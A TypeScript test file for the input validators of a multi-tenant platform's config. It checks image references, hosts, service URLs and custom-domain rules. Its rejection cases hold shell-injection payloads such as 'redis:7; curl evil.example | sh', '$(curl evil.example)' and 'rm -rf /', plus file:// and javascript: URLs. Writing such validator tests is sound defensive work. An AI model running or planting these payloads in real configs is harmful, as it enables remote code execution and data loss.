/**
 * Issue 11 item 7: the config fields that reach a resource verbatim accept what their system
 * accepts and nothing else (shell text, URLs with credentials, names with newlines), and the
 * tenant rules keep custom domains out of the platform domain and upstream names unique.
 */
import { describe, expect, it } from "vitest";
import {
  amqpUriProblem,
  httpUrlProblem,
  isDnsSubdomain,
  isHost,
  isOciReference,
  isOciRepository,
  isOidcIssuer,
} from "../stacks/fieldRules";
import { parseTenantConfig, parseTenantRequest } from "../stacks/config";
import { DEV_ADMIN_CREDENTIALS, DEV_CLOUDFLARE } from "../synth/programs";
import { TenantRequestError, type Problem } from "../tiers";

describe("field shapes", () => {
  it("accepts OCI references the distribution grammar accepts", () => {
    for (const ref of [
      "redis",
      "redis:7.4-alpine",
      "docker.io/library/redis:7.4",
      "registry.example.com:5000/team/redis:7",
      `ghcr.io/acme/redis@sha256:${"a".repeat(64)}`,
      `redis:7.4@sha256:${"0".repeat(64)}`,
    ]) {
      expect(isOciReference(ref), ref).toBe(true);
    }
  });

  it("refuses shell text, schemes, uppercase repositories and empty tags as image references", () => {
    for (const ref of [
      "",
      "redis; rm -rf /",
      "$(curl evil.example)",
      "redis:7 && sh",
      "https://registry.example.com/redis",
      "Redis:7",
      "redis:",
      "redis:7\n",
      "redis@sha256:abc",
      `${"a/".repeat(128)}a`,
    ]) {
      expect(isOciReference(ref), JSON.stringify(ref)).toBe(false);
    }
  });

  it("takes an image repository without tag, since images are <repository>/<service>:<tag>", () => {
    expect(isOciRepository("registry.collect-verything.com/e-commerce")).toBe(true);
    expect(isOciRepository("localhost:5000/cv")).toBe(true);
    for (const bad of [
      "registry.example.com/cv:1.0",
      "registry.example.com/cv/",
      "registry.example.com//cv",
      "registry.example.com/cv`id`",
      "::://",
      "registry.example.com/CV",
    ]) {
      expect(isOciRepository(bad), bad).toBe(false);
    }
  });

  it("takes host names (also single-label cluster names) and IP addresses as hosts", () => {
    for (const host of ["redis", "mysql.mysql.svc.cluster.local", "10.0.0.12", "fd00::12"])
      expect(isHost(host), host).toBe(true);
    for (const host of [
      "",
      "redis:6379",
      "http://redis",
      "999.1.1.1",
      "redis\n",
      "my_host",
      "-redis",
      "Redis.svc",
      "a b",
    ])
      expect(isHost(host), JSON.stringify(host)).toBe(false);
    expect(isOidcIssuer("oidc.eks.eu-west-3.amazonaws.com/id/EXAMPLED539D4633E53DE1B7")).toBe(true);
    for (const issuer of [
      "https://oidc.eks.eu-west-3.amazonaws.com/id/X",
      'oidc.eks.amazonaws.com/id/X"',
      "oidc.eks.amazonaws.com//X",
      "oidc eks/id",
      "",
    ])
      expect(isOidcIssuer(issuer), issuer).toBe(false);
  });

  it("takes http(s) URLs of a host without credentials as service URLs", () => {
    expect(httpUrlProblem("http://rabbitmq.rabbitmq.svc:15672")).toBeUndefined();
    expect(httpUrlProblem("https://[fd00::1]:9090/prometheus")).toBeUndefined();
    expect(httpUrlProblem("file:///etc/passwd")).toMatch(/http/);
    expect(httpUrlProblem("javascript:alert(1)")).toMatch(/http/);
    expect(httpUrlProblem("http://admin:secret@rabbitmq:15672")).toMatch(/credentials/);
    expect(httpUrlProblem("http://admin@rabbitmq:15672")).toMatch(/credentials/);
    // WHATWG URL parsing would drop the newline and accept "http://rabbitmqevil:15672".
    expect(httpUrlProblem("http://rabbitmq\nevil:15672")).toMatch(/http/);
    expect(httpUrlProblem("http://rab_bit:15672")).toMatch(/host/);
  });

  it("takes amqp(s) URIs with credentials, vhost and query as federation URIs", () => {
    expect(amqpUriProblem("amqps://fed:secret@us.example.com:5671/%2f?heartbeat=10")).toBeUndefined();
    expect(amqpUriProblem("amqp://10.1.2.3")).toBeUndefined();
    for (const bad of [
      "http://us.example.com",
      "amqps://",
      "amqps://us example.com",
      "amqps://us.example.com\n",
      "amqps://u:p@/vhost",
    ]) {
      expect(amqpUriProblem(bad), JSON.stringify(bad)).toBeDefined();
    }
  });

  it("takes lowercase DNS subdomains as ingress class and listener names", () => {
    expect(isDnsSubdomain("nginx")).toBe(true);
    expect(isDnsSubdomain("https.shops")).toBe(true);
    for (const bad of ["", "HTTPS", "https\n", "nginx;", "-nginx", `${"a".repeat(254)}`])
      expect(isDnsSubdomain(bad), JSON.stringify(bad)).toBe(false);
  });
});

const BASE = {
  tenantId: "acme",
  tier: "business",
  images: { registry: "registry.example.com/cv", tag: "1.0.0" },
  adminCredentials: DEV_ADMIN_CREDENTIALS,
  cloudflare: DEV_CLOUDFLARE,
};

function problemsOf(raw: Record<string, unknown>): Problem[] {
  try {
    parseTenantConfig(raw);
    return [];
  } catch (error) {
    if (error instanceof TenantRequestError) return [...error.problems];
    throw error;
  }
}

describe("tenant config (item 7)", () => {
  it("accepts a request with every validated field set to a sound value", () => {
    expect(
      problemsOf({
        ...BASE,
        sites: [{ customDomains: ["shop.acme.example", "collect-verything.com.acme.example"] }],
        images: { ...BASE.images, redis: "registry.example.com/mirror/redis:7.4-alpine" },
        routing: { mode: "gateway-api" },
        dataServices: {
          federationUpstreams: [
            { name: "us", uri: "amqps://fed:pw@us.example.com" },
            { name: "asia", uri: "amqps://fed:pw@asia.example.com" },
          ],
        },
      }),
    ).toEqual([]);
  });

  it.each([
    ["the platform apex", "shops.collect-verything.com"],
    ["another tenant's platform hostname", "globex.shops.collect-verything.com"],
    ["another tenant's site hostname", "globex-site-2.shops.collect-verything.com"],
    ["a name deeper under the platform domain", "a.b.shops.collect-verything.com"],
  ])("refuses %s as a custom domain", (_what, domain) => {
    expect(problemsOf({ ...BASE, sites: [{ customDomains: [domain] }] })).toEqual([
      {
        field: "sites[0].customDomains[0]",
        message: expect.stringMatching(/under the platform domain "shops\.collect-verything\.com"/),
      },
    ]);
  });

  it("checks custom domains against the platform's domain, which a request cannot move (a platform fact)", () => {
    const sites = [{ customDomains: ["acme.shops.example.net"] }];
    expect(problemsOf({ ...BASE, sites })).toEqual([]);
    expect(
      problemsOf({ ...BASE, sites, platform: { domain: "shops.example.net" } }).map((p) => p.field),
    ).toEqual(["platform.domain"]);
  });

  it("refuses two federation upstreams of the same name, naming the second", () => {
    const upstreams = [
      { name: "us", uri: "amqps://fed:pw@us.example.com" },
      { name: "us", uri: "amqps://fed:pw@us2.example.com" },
    ];
    expect(problemsOf({ ...BASE, dataServices: { federationUpstreams: upstreams } })).toEqual([
      {
        field: "dataServices.federationUpstreams[1].name",
        message: '"us" is already the name of federationUpstreams[0]',
      },
    ]);
  });

  it.each([
    ["routing.ingressClassName", { routing: { mode: "ingress-nginx", ingressClassName: "nginx --dry-run" } }],
    ["images.redis", { images: { ...BASE.images, redis: "redis:7; curl evil.example | sh" } }],
    ["images.registry", { images: { ...BASE.images, registry: "registry.example.com/cv; id" } }],
    [
      "adminCredentials.rabbitmq.managementUrl",
      {
        adminCredentials: {
          ...DEV_ADMIN_CREDENTIALS,
          rabbitmq: { ...DEV_ADMIN_CREDENTIALS.rabbitmq, managementUrl: "http://guest:guest@rabbitmq:15672" },
        },
      },
    ],
    [
      "adminCredentials.mysql.user",
      { adminCredentials: { ...DEV_ADMIN_CREDENTIALS, mysql: { user: "root\n", password: "" } } },
    ],
  ])("refuses a malformed %s", (field, overrides) => {
    expect(problemsOf({ ...BASE, ...overrides }).map((p) => p.field)).toEqual([field]);
  });

  it("refuses a request that is not an object, naming the request", () => {
    for (const raw of [null, [], "acme", 3]) {
      expect(() => parseTenantRequest(raw)).toThrow(/\(request\): must be an object of config keys/);
    }
    expect(parseTenantRequest({ ...BASE })).toEqual(BASE);
  });
});
